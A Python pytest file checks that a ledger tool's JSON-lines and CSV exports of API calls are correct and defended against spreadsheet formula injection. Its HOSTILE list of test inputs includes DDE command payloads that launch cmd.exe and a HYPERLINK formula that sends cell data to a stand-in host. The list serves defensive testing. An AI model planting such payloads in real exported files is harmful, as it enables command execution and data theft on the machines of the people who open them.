"""Exports: counted calls as JSON lines and as CSV, and the journal's own lines."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import orjson
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from keledger.journal import Home, usd_to_pico
from keledger.projections import (
    _engine,
    export_csv,
    export_jsonl,
    open_projection,
    rebuild,
    report_daily,
    run_sql,
)
from keledger.projections._export import _NUMBERS
from keledger.projections._options import ReportOptions
from keledger.projections._spreadsheet import cell_text, plain_text

from .support import append, call, call_id, expected, take_over, uncosted, void


@pytest.fixture
def merged(home: Home) -> Home:
    """Two writers' lines, some of which do not count."""
    other = Home.at(home.path.with_name("other"))
    append(home, call(1, usd="1.5", tags={"env": "dev"}), call(2, **uncosted("unpriced")), call(1))
    append(other, call(3, started_at="2026-01-01T00:00:00.000000Z", reported_cost_usd="3"), call(4))
    take_over(other, home)
    append(home, void(4), call(5, started_at="2026-02-01T00:00:00.000000Z"))
    return home


def exported(home: Home, *, events: bool = False) -> bytes:
    out = io.BytesIO()
    count = export_jsonl(home, out, events=events)
    assert out.getvalue().count(b"\n") == count
    return out.getvalue()


def test_calls(merged: Home) -> None:
    lines = [orjson.loads(line) for line in exported(merged).splitlines()]
    assert [line["id"] for line in lines] == [call_id(3), call_id(5), *sorted([call_id(1), call_id(2)])]
    with open_projection(merged) as projection:
        columns = run_sql(projection, "SELECT * FROM calls").columns
        (same,) = run_sql(projection, f"SELECT * FROM calls WHERE id = '{call_id(1)}'").rows
    one = next(line for line in lines if line["id"] == call_id(1))
    assert list(one) == [*columns, "charges"]
    for name, value in same.items():
        if name.endswith("_usd") and value is not None:
            assert Decimal(one[name]) == Decimal(value)
        else:
            assert one[name] == value
    assert one["charges"] == [
        {"bucket": "input_uncached", "quantity": 1, "usd_per_million": "1.25", "usd": "1"},
        {"bucket": "output_text", "quantity": 1, "usd_per_million": "1.25", "usd": "0.5"},
    ]
    unpriced = next(line for line in lines if line["id"] == call_id(2))
    assert (unpriced["cost_usd"], unpriced["charges"][0]["usd"]) == (None, None)
    total = sum(usd_to_pico(line["cost_usd"] or "0") for line in lines)
    charged = sum(usd_to_pico(charge["usd"] or "0") for line in lines for charge in line["charges"])
    assert total == charged == expected(merged).pico


def test_the_same_bytes_from_memory_and_from_a_layer(merged: Home) -> None:
    before = exported(merged)
    rebuild(merged)
    assert exported(merged) == before


def test_events_are_the_journal_byte_for_byte(merged: Home) -> None:
    lines = exported(merged, events=True).splitlines(keepends=True)
    files = [path.read_bytes() for writer in merged.writers() for path in merged.segments(writer)]
    assert sorted(lines) == sorted(line for content in files for line in content.splitlines(keepends=True))
    places = [(event["tick"], event["source"], event["seq"]) for event in map(orjson.loads, lines)]
    assert places == sorted(places)


def test_an_empty_home(home: Home) -> None:
    assert exported(home) == b""
    assert exported(home, events=True) == b""


def test_an_export_to_a_full_disk_raises(merged: Home) -> None:
    with open("/dev/full", "wb", buffering=0) as out, pytest.raises(OSError, match="No space left"):
        export_jsonl(merged, out)
    assert Path("/dev/full").exists()


TRIGGERS = "=+-@\t\r\n＝＋－＠"

HOSTILE = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "  \t -1", "\u00a0=1", "\ufeff=1", "\u200b=1",
    "'=1", "''=1", '"=1', "\" '=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "−1", "﹦1", "⁺1", "\0=1",
    "=cmd|'/C calc'!A0", "cmd|'/C calc'!A0", "+MSEXCEL|'..\\..\\cmd.exe'!''", '=HYPERLINK("http://x.example?"&A1,"a")',
    'a";=1+2', "a;=1+2", "a,=1+2", "a\t=1+2", "a\n=1+2", "a\r\n@x",
    "a; '=1", "'", "''", "it's", "'a'", "a;'b'", ";", ",,", "",
    "plain", "über-groß", "a-b", "a=b", "5", "-5", "1e3", "02 .exec", '{"a":"=1"}', "a\r\nb", '"quoted"', "'-",
    "\u2028=1", "a,  \t-1",
)  # fmt: skip


def looks_executable(cell: str) -> bool:
    """What a careless spreadsheet may take for a formula: told without the product's own notion of it."""
    return any(cell.lstrip(passed).startswith(tuple(TRIGGERS)) for passed in ("", " ", ' "', ' "\u00a0\ufeff\u200b\0'))


@given(st.text(st.one_of(st.sampled_from([*TRIGGERS, *" ,;'\"|!ab1"]), st.characters(exclude_categories=["Cs"]))))
@example("=1;=2,=3")
@example("'")
def test_no_cell_begins_as_a_formula_does(text: str) -> None:
    cell = cell_text(text)
    assert plain_text(cell) == text
    assert not looks_executable(cell)
    for separator in ",;\t\r\n":
        assert not any(map(looks_executable, cell.split(separator)[1:]))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_cell_holds(text: str) -> None:
    harmless = {
        "it's", "", "plain", "über-groß", "a-b", "a=b", "5", "1e3", "02 .exec", '{"a":"=1"}', '"quoted"', ";", ",,",
    }  # fmt: skip
    cell = cell_text(text)
    assert (cell == text) is (text in harmless)
    assert plain_text(cell) == text
    assert not looks_executable(cell)


def exported_csv(home: Home) -> bytes:
    out = io.BytesIO()
    export_csv(home, out)
    return out.getvalue()


def read_back(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline=""), strict=True))


@pytest.fixture
def hostile(home: Home) -> Home:
    """A call a text, which stands in every column that a text can get into."""
    texts = [text for text in HOSTILE if text]
    append(
        home,
        *(
            call(
                number,
                usd=f"{number}.000000000001",
                **dict.fromkeys(("session", "prompt", "user", "project", "model", "provider", "error_type"), text),
                tags={"env": text},
                duration_ms=number,
            )
            for number, text in enumerate(texts)
        ),
    )
    return home


def test_rows_are_the_columns_of_calls(merged: Home) -> None:
    rows = read_back(exported_csv(merged))
    lines = [orjson.loads(line) for line in exported(merged).splitlines()]
    assert len(rows) == len(lines) == 4
    for row, line in zip(rows, lines, strict=True):
        assert list(row) == list(line)[:-1]
        for name, value in row.items():
            wanted = line[name]
            if name == "tags":
                assert json.loads(value or "null") == wanted
            else:
                assert plain_text(value) == ("" if wanted is None else str(wanted))


def test_the_file_is_as_rfc_4180_has_it(merged: Home) -> None:
    content = exported_csv(merged)
    assert content.count(b"\r\n") == content.count(b"\n") == 5
    assert content.startswith(b"id,started_at,writer,sequence,")
    assert content.endswith(b"\r\n")


def test_an_empty_home_has_a_header(home: Home) -> None:
    assert exported_csv(home).splitlines()[0].startswith(b"id,")
    assert read_back(exported_csv(home)) == []


def test_no_cell_of_a_file_is_executed_and_every_text_comes_back(hostile: Home) -> None:
    content = exported_csv(hostile)
    rows = read_back(content)
    texts = {call_id(number): text for number, text in enumerate(text for text in HOSTILE if text)}
    assert len(rows) == len(texts)
    for row in rows:
        assert plain_text(row["prompt"]) == texts[row["id"]]
        assert json.loads(plain_text(row["tags"])) == {"env": texts[row["id"]]}
        assert not any(looks_executable(value) for name, value in row.items() if name not in _NUMBERS)
    for separator in ",;\t":  # as a spreadsheet reads it that is set to another separator, or knows no quotes
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for cells in csv.reader(io.StringIO(content.decode(), newline=""), delimiter=separator, quoting=quoting):
                assert not any(map(looks_executable, cells)), (separator, cells)


def test_json_lines_are_never_altered(hostile: Home) -> None:
    lines = [orjson.loads(line) for line in exported(hostile).splitlines()]
    assert {line["prompt"] for line in lines} == {text for text in HOSTILE if text}


def test_a_negative_number_stays_one(home: Home) -> None:
    append(home, call(1, usd="-1.5", reported_cost_usd="-1.5"))
    (row,) = read_back(exported_csv(home))
    assert (row["cost_usd"], row["recorded_cost_usd"]) == ("-1.5", "-1.5")


def test_another_reader_gets_the_sums_of_the_report(hostile: Home, tmp_path: Path) -> None:
    file = tmp_path / "calls.csv"
    file.write_bytes(exported_csv(hostile))
    with open_projection(hostile) as projection:
        totals = report_daily(projection, ReportOptions()).as_json()["totals"]
    read = f"read_csv({_engine.quote(str(file))}, header = true, all_varchar = true, strict_mode = true)"
    sums = "count(*), sum(cost_usd::DECIMAL(38, 12)), sum(input_tokens::BIGINT), sum(output_tokens::BIGINT)"
    row = _engine.connect().execute(f"SELECT {sums} FROM {read}").fetchone()
    assert row is not None
    calls, cost_usd, input_tokens, output_tokens = row
    assert (calls, input_tokens, output_tokens) == (totals["calls"], totals["input_tokens"], totals["output_tokens"])
    assert cost_usd == Decimal(totals["cost_usd"])
